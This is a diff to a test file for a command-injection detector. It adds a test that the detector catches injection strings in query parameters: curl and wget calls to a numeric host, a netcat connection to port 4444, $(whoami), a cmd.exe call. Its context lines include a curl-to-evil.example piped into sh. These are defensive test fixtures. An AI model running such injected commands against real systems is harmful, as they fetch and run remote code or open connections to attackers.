@@ -132,6 +132,26 @@ describe('cmdi detector', () => {
     expect(detects(inHeader('x-device-id', '; id #'), 'cmdi')).toBe(true);
     expect(detects(inJson({ host: '8.8.8.8; curl http://evil.example/x | sh' }), 'cmdi')).toBe(true);
   });
+  it('finds commands in every spelling the command-position pre-check must let through', () => {
+    // COMMAND_POSITION skips the loop for prose; each of these needs the loop (a version, ".exe", quotes, a path, a
+    // "$(", a wrapper, a pipe run) and must still be found.
+    for (const p of [
+      '; python3.10 -c "import os"',
+      '& php8.2.exe -r phpinfo();',
+      "; 'curl' http://198.51.100.7/x",
+      '; /usr/local/bin/nc 10.0.0.1 4444',
+      '|| c:\\windows\\system32\\cmd.exe /c dir',
+      'x $(whoami)',
+      '; nohup wget http://198.51.100.7/a.sh',
+      'a |& id',
+      'x;\r\nid',
+      '; gcc10.1 -o /tmp/x /tmp/x.c',
+    ])
+      expect(detects(inQuery(p), 'cmdi'), p).toBe(true);
+    // Prose with separators and no command after them costs the pre-check only.
+    expect(inJson({ note: "I'm out; the door code is 4-1-7. Thanks & have a nice day" }).attack).toBe(false);
+  });
+
   it('treats commands in markdown code spans of prose as weak', () => {
     expect(inJson({ body: 'Try `ls -la /var/log` to see the files.' }).attack).toBe(false);
   });
